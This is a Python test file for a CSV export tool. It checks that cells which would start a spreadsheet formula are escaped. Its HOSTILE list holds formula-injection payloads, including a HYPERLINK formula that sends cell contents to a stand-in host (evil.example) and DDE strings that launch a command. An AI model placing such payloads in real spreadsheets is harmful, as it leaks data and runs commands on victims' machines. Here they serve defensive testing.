"""Finding 8: exported CSV cells that a spreadsheet would run as a formula are escaped."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.factories import post_json
from veille.cli import app
from veille.config import get_settings
from veille.spreadsheet import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
    "+33 6 12 34 56 78 appelez",
    "-2+3 cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_is_escaped(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert safe_cell("Bravo pour la façade = top") == "Bravo pour la façade = top"
    assert safe_cell(-3) == -3 and safe_cell("") == ""


def test_cli_csv_export_escapes_hostile_posts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VEILLE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("VEILLE_DATABASE_URL", f"sqlite:///{tmp_path / 'export.db'}")
    get_settings.cache_clear()
    lines = [json.dumps(post_json(str(i), text)) for i, text in enumerate(HOSTILE, start=1)]
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    runner = CliRunner()
    try:
        assert runner.invoke(app, ["ingest", str(tmp_path / "in.jsonl")]).exit_code == 0
        result = runner.invoke(app, ["export", "--format", "csv"])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [row["text"] for row in table] == ["'" + text for text in HOSTILE]
    # Nothing a spreadsheet reads as a formula, in any column.
    for row in table:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t")), cell
